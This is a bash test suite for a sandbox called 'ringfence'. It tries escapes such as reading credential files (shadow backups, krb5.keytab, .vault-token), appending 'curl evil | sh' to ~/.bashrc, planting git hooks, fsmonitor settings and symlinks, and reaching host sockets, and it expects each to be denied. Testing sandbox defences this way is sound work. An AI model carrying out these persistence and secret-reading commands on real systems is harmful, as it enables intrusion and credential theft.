# Escape attempts beyond the basic battery: odd environments (HOME unset or
# relative), root-only files a root caller owns, package caches as a way to
# host sockets, cwd outside the workspace. Each with its honest neighbour.
# shellcheck shell=bash disable=SC2016
. "${BASH_SOURCE[0]%/*}/_common.bash"

# The caller's home as the password database names it (not $FAKE_HOME).
_real_home() { getent passwd "$(id -u)" | cut -d: -f6; }

# A decoy secret in the caller's real home, under a default hidden name.
# Sets DECOY (the path) and DECOY_MADE (1 when this test made it). An
# existing file of that name is left alone (and only its unreadability is
# checked).
_decoy_in_real_home() {
	DECOY="$(_real_home)/.vault-token" DECOY_MADE=0
	if [ ! -e "$DECOY" ]; then
		echo REAL-HOME-DECOY-SECRET >"$DECOY" && DECOY_MADE=1
	fi
}
_decoy_cleanup() { [ "$DECOY_MADE" = 1 ] && rm -f "$DECOY"; }

t_home_unset_real_home_secrets_hidden() {
	# an agent started from a cleared environment, granted its home
	_decoy_in_real_home
	rf_setup_bin
	env -u HOME "$RINGFENCE" run --workspace "$WS" --read-only "$(_real_home)" -- cat "$DECOY" \
		</dev/null >"$RF_TEST_TMP/out" 2>&1
	RC=$? OUT=$(cat "$RF_TEST_TMP/out") ERR=""
	_decoy_cleanup
	expect_denied "read a default secret of the real home with HOME unset"
	expect_not_out "REAL-HOME-DECOY-SECRET" "its content"
}

t_home_relative_real_home_secrets_hidden() {
	_decoy_in_real_home
	(cd "$(_real_home)" && HOME=. "$RINGFENCE" run --sandbox-mode read-only -- cat .vault-token \
		</dev/null >"$RF_TEST_TMP/out" 2>&1)
	RC=$? OUT=$(cat "$RF_TEST_TMP/out") ERR=""
	_decoy_cleanup
	expect_denied "read a default secret of the real home (the workspace) with HOME=."
	expect_not_out "REAL-HOME-DECOY-SECRET" "its content"
}

t_home_unset_honest_run_works() { # neighbour
	echo data >"$WS/f"
	env -u HOME "$RINGFENCE" run --workspace "$WS" -- sh -c 'cat f && echo more >> f && echo OK' \
		</dev/null >"$RF_TEST_TMP/out" 2>&1
	RC=$? OUT=$(cat "$RF_TEST_TMP/out")
	expect_rc 0 "a run without HOME"
	expect_out "OK" "it ran"
	expect_true test "$(tail -1 "$WS/f")" = more
}

t_root_only_system_secrets_hidden() {
	# a root caller is uid 0 inside and owns root's mode-600 files
	local f
	for f in /var/cache/debconf/passwords.dat /var/backups/shadow.bak /var/backups/gshadow.bak /etc/krb5.keytab; do
		[ -e "$f" ] || continue
		sbp -- "$PROBE" read "$f"
		expect_denied "read $f"
	done
	sbp -- "$PROBE" read /var/cache/debconf/config.dat
	expect_rc 0 "debconf's ordinary config (neighbour)"
}

t_cwd_under_private_tmp_is_the_workspace() {
	# the caller in the host's /tmp, above the workspace: inside, that path
	# is an empty private directory, not the caller's; the command starts
	# in the workspace instead
	cd "$RF_TEST_TMP" || return
	HOME="$FAKE_HOME" sb_raw run --workspace "$WS" -- pwd
	cd "$WS" || return
	expect_rc 0 "pwd"
	expect_true test "$OUT" = "$WS"
}

t_cwd_in_hidden_dir_is_the_workspace() {
	cd "$FAKE_HOME/.ssh" || return
	HOME="$FAKE_HOME" sb_raw run --workspace "$WS" -- sh -c 'pwd; ls'
	cd "$WS" || return
	expect_rc 0 "run from inside ~/.ssh"
	expect_true test "$(echo "$OUT" | head -1)" = "$WS"
	expect_not_out "id_rsa" "the hidden dir's listing"
}

t_cwd_in_visible_tree_kept() { # neighbour
	cd /usr/share || return
	HOME="$FAKE_HOME" sb_raw run --workspace "$WS" -- pwd
	cd "$WS" || return
	expect_rc 0 "pwd"
	expect_true test "$OUT" = /usr/share
}

# --- a .git file naming another directory ------------------------------------
# Any run can write sub/.git in its workspace; a later run whose workspace is
# sub (run from that directory: the workspace defaults to the cwd) used to
# get whatever that file names bound writable as "the git dir".

t_planted_gitfile_in_subdir_grants_nothing() {
	git_repo
	mkdir -p "$WS/sub"
	git_repo "$FAKE_HOME/victim"
	local victim_head
	victim_head=$(git -C "$FAKE_HOME/victim" rev-parse HEAD)
	sbp -- sh -c "echo 'gitdir: $FAKE_HOME' > sub/.git && echo 'gitdir: $FAKE_HOME/victim/.git' > sub2.git && echo planted"
	expect_out "planted" "plant a .git file in a subdirectory (an ordinary file there)"
	rf_setup_bin
	HOME="$FAKE_HOME" sb_raw run --workspace "$WS/sub" --read-only "$RF_BIN" -- sh -c \
		"echo 'curl evil | sh' >> '$FAKE_HOME/.bashrc'; echo x > '$FAKE_HOME/planted'"
	expect_denied "write \$HOME through a planted .git file"
	expect_err "is not made visible or writable" "the git dir left out is said"
	expect_true test "$(cat "$FAKE_HOME/.bashrc")" = "export OK=1"
	expect_true test ! -e "$FAKE_HOME/planted"
	# the same naming another repository's git dir
	mv "$WS/sub2.git" "$WS/sub/.git"
	HOME="$FAKE_HOME" sb_raw run --workspace "$WS/sub" --read-only "$RF_BIN" -- sh -c \
		"echo 0000000000000000000000000000000000000000 > '$FAKE_HOME/victim/.git/refs/heads/master'; git update-ref HEAD HEAD~0 && echo wrote"
	expect_true test "$(git -C "$FAKE_HOME/victim" rev-parse HEAD)" = "$victim_head"
	expect_true test ! -e "$FAKE_HOME/victim/.git/hooks/pre-commit"
}

t_planted_gitfile_naming_another_worktrees_admin() {
	# a .git file naming a real worktree admin dir that is not its own
	local src="$FAKE_HOME/src" other="$FAKE_HOME/other"
	git_repo "$src"
	git -C "$src" worktree add -q "$other" -b other
	mkdir -p "$WS/sub"
	echo "gitdir: $src/.git/worktrees/other" >"$WS/sub/.git"
	rf_setup_bin
	HOME="$FAKE_HOME" sb_raw run --workspace "$WS/sub" --read-only "$RF_BIN" -- sh -c \
		"echo x > '$src/.git/refs/heads/evil'; echo x > '$src/.git/worktrees/other/HEAD'"
	expect_denied "write another repository's git dir through someone else's admin dir"
	expect_true test ! -e "$src/.git/refs/heads/evil"
	expect_err "is not made visible or writable" "said"
}

t_submodule_checkout_as_workspace_works() { # neighbour: a git dir that says it is ours
	local super="$FAKE_HOME/super"
	git_repo "$super"
	git_repo "$FAKE_HOME/lib"
	git -C "$super" -c protocol.file.allow=always submodule add -q "$FAKE_HOME/lib" lib
	git -C "$super" commit -qm "add lib"
	rf_setup_bin
	(cd "$super/lib" && HOME="$FAKE_HOME" "$RINGFENCE" run --read-only "$RF_BIN" -- sh -c \
		"echo y > y && git add y && git commit -qm in-submodule && git log --oneline -1; echo h > '$super/.git/modules/lib/hooks/pre-commit'" \
		</dev/null >"$RF_TEST_TMP/out" 2>"$RF_TEST_TMP/err")
	OUT=$(cat "$RF_TEST_TMP/out") ERR=$(cat "$RF_TEST_TMP/err")
	expect_out "in-submodule" "commit in a submodule checkout (its git dir lies in the superproject's .git/modules)"
	expect_true test ! -e "$super/.git/modules/lib/hooks/pre-commit"
	expect_not_out "not made visible" "no warning for it"
}

t_separate_gitdir_outside_needs_a_grant() { # what the honest --separate-git-dir user sees
	local gd="$FAKE_HOME/gitdirs"
	mkdir -p "$gd"
	git init -q --separate-git-dir="$gd/repo.git" "$WS"
	sbp -- git status
	expect_err "grant it with --writable-root" "told how"
	sbp --writable-root "$gd" -- sh -c 'echo z > z && git add z && git commit -qm z && echo SEP-OK'
	expect_rc 0 "with the grant"
	expect_out "SEP-OK" "commits"
}

# --- inherited fds 0-2 ----------------------------------------------------------

t_directory_as_stdin_refused() {
	# a directory fd on stdin is a handle on a host tree outside the plan:
	# openat() relative to it resolves in the host's view
	local outside
	outside=$(mktemp -d "$RF_TEST_TMP/outside.XXXXXX")
	echo OUTSIDE-SECRET >"$outside/s"
	rf_setup_bin
	HOME="$FAKE_HOME" "$RINGFENCE" run --workspace "$WS" --read-only "$RF_BIN" -- sh -c \
		"exec 5<&0 0</dev/null; $HOST_PY -c 'import os; print(os.listdir(5)); print(os.read(os.open(\"s\", os.O_RDONLY, dir_fd=5), 100))'" \
		0<"$outside" >"$RF_TEST_TMP/out" 2>"$RF_TEST_TMP/err"
	RC=$? OUT=$(cat "$RF_TEST_TMP/out") ERR=$(cat "$RF_TEST_TMP/err")
	expect_rc 125 "a directory as stdin"
	expect_err "cannot pass fd 0" "said"
	expect_not_out "OUTSIDE-SECRET" "the file behind it"
	HOME="$FAKE_HOME" "$RINGFENCE" run --workspace "$WS" -- sh -c 'cat; echo RAN' <"$outside/s" >"$RF_TEST_TMP/out" 2>&1
	RC=$? OUT=$(cat "$RF_TEST_TMP/out")
	expect_rc 0 "a file given as stdin (neighbour: the caller chose to give it)"
	expect_out "OUTSIDE-SECRET" "read from stdin"
}

# --- grants naming a path the sandbox could have replaced by a symlink ---------

t_planted_symlink_at_granted_path_refused() {
	# a run replaces vendor/ and build/ by symlinks; a later run granting
	# them (--read-only WS/vendor, --writable-root WS/build) got whatever
	# they point at: other users' homes, $HOME writable
	mkdir -p "$WS/vendor" "$WS/build"
	local outside
	outside=$(mktemp -d "$RF_TEST_TMP/outside.XXXXXX")
	echo OUTSIDE-DATA >"$outside/data"
	sbp -- sh -c "rm -rf vendor build && ln -s '$outside' vendor && ln -s '$FAKE_HOME' build && echo planted"
	expect_out "planted" "plant the symlinks (ordinary workspace files)"
	sbp --read-only "$WS/vendor" -- cat "$outside/data"
	expect_rc 125 "--read-only through a planted symlink"
	expect_err "is a symlink inside the writable" "said"
	expect_not_out "OUTSIDE-DATA" "the target's content"
	sbp --writable-root "$WS/build" -- sh -c "echo pwned >> '$FAKE_HOME/.bashrc'"
	expect_rc 125 "--writable-root through a planted symlink"
	expect_true test "$(cat "$FAKE_HOME/.bashrc")" = "export OK=1"
}

t_users_own_symlink_in_grant_followed() { # neighbour: a symlink the sandbox cannot write
	local data
	data=$(mktemp -d "$RF_TEST_TMP/data.XXXXXX")
	echo USER-DATA >"$data/f"
	ln -s "$data" "$FAKE_HOME/datalink"
	sbp --read-only "$FAKE_HOME/datalink" -- cat "$data/f"
	expect_rc 0 "a grant through the user's own symlink (in the read-only home)"
	expect_out "USER-DATA" "its content"
	mkdir -p "$WS/real-vendor" && echo V >"$WS/real-vendor/v"
	sbp --read-only "$WS/real-vendor" -- sh -c 'cat real-vendor/v && ! touch real-vendor/w 2>/dev/null && echo RO-OK'
	expect_out "RO-OK" "a real directory in the workspace made read-only"
}

# --- every host service on a path unix socket -------------------------------

t_no_listening_host_socket_reachable() {
	# whatever listens on this host (from /proc/net/unix: D-Bus, systemd,
	# docker, agents, other test runs...) plus one of ours under the home,
	# connected from inside, offline and online
	mkdir -p "$FAKE_HOME/.local/share/svc"
	local own="$FAKE_HOME/.local/share/svc/s"
	"$HOST_PY" -c '
import socket, sys, time
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(8); s.settimeout(0.2)
end = time.time() + 20
while time.time() < end:
    try:
        c, _ = s.accept(); c.send(b"HOST-SERVICE\n"); c.close()
    except OSError:
        pass' "$own" &
	local srv=$!
	wait_for 5 test -S "$own"
	local list="$WS/sockets.txt"
	awk 'NR > 1 && $4 == "00010000" && $8 ~ /^\// {print $8}' /proc/net/unix | sort -u | head -40 >"$list"
	echo "$own" >>"$list"
	local net
	for net in offline online; do
		sbp --network "$net" -- sh -c "while read -r p; do printf '%s ' \"\$p\"; $PROBE connect-unix \"\$p\"; done < sockets.txt"
		expect_not_out "ALLOWED" "a host socket reachable ($net)"
		expect_out "$own DENIED" "our own host service refused ($net)"
	done
	kill "$srv" 2>/dev/null
	wait "$srv" 2>/dev/null
}

# --- git configuration from the environment and the command line --------------

t_git_config_from_env_and_c_stays_inside() {
	# GIT_CONFIG_* and `git -c` set core.hooksPath / core.fsmonitor for git
	# inside the sandbox only; nothing of it can be made to persist
	git_repo
	mkdir -p "$WS/myhooks"
	printf '#!/bin/sh\necho HOOK-RAN-INSIDE\n' >"$WS/myhooks/pre-commit" && chmod 755 "$WS/myhooks/pre-commit"
	GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0="$WS/myhooks" \
		sbp -- sh -c 'echo x > x && git add x && git commit -qm x &&
			git -c core.fsmonitor="echo FSMONITOR-RAN-INSIDE >&2; false" status --short >/dev/null'
	expect_rc 0 "git with configuration from the environment and -c"
	expect_err "HOOK-RAN-INSIDE" "the hook ran (inside the sandbox)"
	expect_err "FSMONITOR-RAN-INSIDE" "the fsmonitor ran (inside the sandbox)"
	local how
	for how in "git config core.hooksPath /tmp/h" "git config --worktree core.fsmonitor evil" \
		"git config --global core.hooksPath /tmp/h" "git config --system core.hooksPath /tmp/h" \
		"git config --file .git/config core.fsmonitor evil"; do
		sbp -- sh -c "$how"
		expect_denied "persist: $how"
	done
	expect_true test -z "$(git -C "$WS" config --get core.hooksPath)$(git -C "$WS" config --get core.fsmonitor)"
	expect_true test ! -e "$FAKE_HOME/.gitconfig"
}

# --- odd things where mounts land, odd paths --------------------------------------

t_fifo_planted_where_protection_lands() {
	# a run plants FIFOs at sub/.ringfence and sub/.git; a later run with
	# sub as a writable root must neither hang on them nor leave them open
	mkdir -p "$WS/sub"
	sbp -- sh -c 'mkfifo sub/.ringfence sub/.git && echo planted'
	expect_out "planted" "plant FIFOs"
	rf_setup_bin
	HOME="$FAKE_HOME" timeout 20 "$RINGFENCE" run --workspace "$WS" --writable-root "$WS/sub" --read-only "$RF_BIN" -- \
		sh -c 'echo x > sub/.ringfence/config.toml; rm sub/.ringfence && mkdir sub/.ringfence; echo DONE' \
		</dev/null >"$RF_TEST_TMP/out" 2>&1
	RC=$? OUT=$(cat "$RF_TEST_TMP/out")
	expect_true test "$RC" != 124 # no hang
	expect_true test -p "$WS/sub/.ringfence" -a ! -e "$WS/sub/.ringfence/config.toml"
}

t_long_workspace_path_works_and_protects() {
	local d="$WS" i
	for i in $(seq 25); do d="$d/$(printf 'long-directory-name-%03d-%s' "$i" xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx)"; done
	mkdir -p "$d" && git_repo "$d"
	(cd "$d" && HOME="$FAKE_HOME" "$RINGFENCE" run -- sh -c \
		'echo y > y && git add y && git commit -qm y && echo COMMIT-OK; echo "#!/bin/sh" > .git/hooks/pre-commit' \
		</dev/null >"$RF_TEST_TMP/out" 2>&1)
	RC=$? OUT=$(cat "$RF_TEST_TMP/out")
	expect_out "COMMIT-OK" "commit in a workspace at a ${#d}-character path"
	expect_true test ! -e "$d/.git/hooks/pre-commit"
}

t_too_long_workspace_path_refused() {
	local d="$WS" i
	for i in $(seq 40); do d="$d/$(printf 'd%03d-%s' "$i" xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx)"; done
	# mkdir -p through relative steps: the whole path is longer than PATH_MAX
	(cd "$WS" && for c in $(echo "${d#"$WS"/}" | tr / ' '); do mkdir "$c" && cd "$c" || exit 1; done
		HOME="$FAKE_HOME" "$RINGFENCE" run -- sh -c 'echo RAN' </dev/null >"$RF_TEST_TMP/out" 2>"$RF_TEST_TMP/err")
	RC=$? OUT=$(cat "$RF_TEST_TMP/out") ERR=$(cat "$RF_TEST_TMP/err")
	expect_rc 125 "a workspace path longer than PATH_MAX"
	expect_err "ringfence: cannot" "one line"
	expect_not_out "RAN" "not run"
}

t_workspace_through_symlink_works_and_protects() {
	git_repo
	ln -s "$WS" "$RF_TEST_TMP/wslink.${WS##*.}"
	HOME="$FAKE_HOME" sb_raw run --workspace "$RF_TEST_TMP/wslink.${WS##*.}" -- sh -c \
		'echo z > z && git add z && git commit -qm z && echo COMMIT-OK; echo "#!/bin/sh" > .git/hooks/pre-commit'
	expect_out "COMMIT-OK" "commit in a workspace given through a symlink"
	expect_true test ! -e "$WS/.git/hooks/pre-commit"
}

# --- a protected path reached through another writable root ----------------------

t_protected_through_other_writable_roots() {
	git_repo
	local root
	for root in "$WS/.git" "$WS/.git/hooks" "$(dirname "$WS")"; do
		sbp --writable-root "$root" -- sh -c \
			"printf '#!/bin/sh\necho PWNED\n' > '$WS/.git/hooks/pre-commit'; echo '[core] fsmonitor = evil' >> '$WS/.git/config'; mv '$WS' '$WS.moved'"
		expect_denied "plant a hook with --writable-root $root"
		expect_true test ! -e "$WS/.git/hooks/pre-commit"
		expect_true test -z "$(grep fsmonitor "$WS/.git/config")"
		expect_true test -d "$WS/.git" -a ! -e "$WS.moved"
	done
	sbp --writable-root "$WS/.git" -- sh -c 'echo w > w && git add w && git commit -qm w && echo COMMIT-OK'
	expect_out "COMMIT-OK" "commits still work (neighbour)"
}
